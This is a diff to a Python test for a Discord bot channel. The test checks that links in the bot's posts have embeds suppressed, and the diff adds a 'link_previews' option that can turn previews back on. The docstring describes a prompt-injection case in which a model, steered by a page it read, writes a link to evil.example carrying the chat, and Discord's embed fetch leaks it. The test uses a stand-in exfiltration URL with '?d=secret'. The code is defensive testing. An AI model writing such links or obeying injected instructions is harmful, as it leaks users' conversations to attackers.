@@ -126,15 +126,20 @@ async def test_typing_edit_reactions_upload(discord_channel, fake_discord):
     assert up.ids and up.ids[0] != mid
 
 
-async def test_links_in_the_bots_messages_are_not_embedded(discord_channel, fake_discord):
+@pytest.mark.parametrize("link_previews", [False, True])
+async def test_links_in_the_bots_messages_are_not_embedded(
+    discord_channel, fake_discord, link_previews: bool
+):
     """Discord's servers fetch a posted link to embed it, with no one clicking: a model
     steered by a page it read into writing https://evil.example/?d=<the chat> leaked it
-    by itself. Answers, previews and file captions are posted with embeds suppressed."""
-    channel, _ = await discord_channel()
+    by itself. Answers, previews and file captions are posted with embeds suppressed,
+    unless the channel's ``link_previews`` says otherwise."""
+    channel, _ = await discord_channel(link_previews=link_previews)
     link = "see https://evil.example/p.png?d=secret"
     await channel.send(OutboundMessage(DM, link))
     await channel.post_preview(DM, link, None)
     await channel.upload(DM, "a.txt", b"a", link)
     posts = fake_discord.posts(channel_id=4242)
     assert len(posts) == 3
-    assert [int(p.json.get("flags", 0)) & 4 for p in posts] == [4, 4, 4]  # SUPPRESS_EMBEDS
+    suppressed = 0 if link_previews else 4  # SUPPRESS_EMBEDS
+    assert [int(p.json.get("flags", 0)) & 4 for p in posts] == [suppressed] * 3
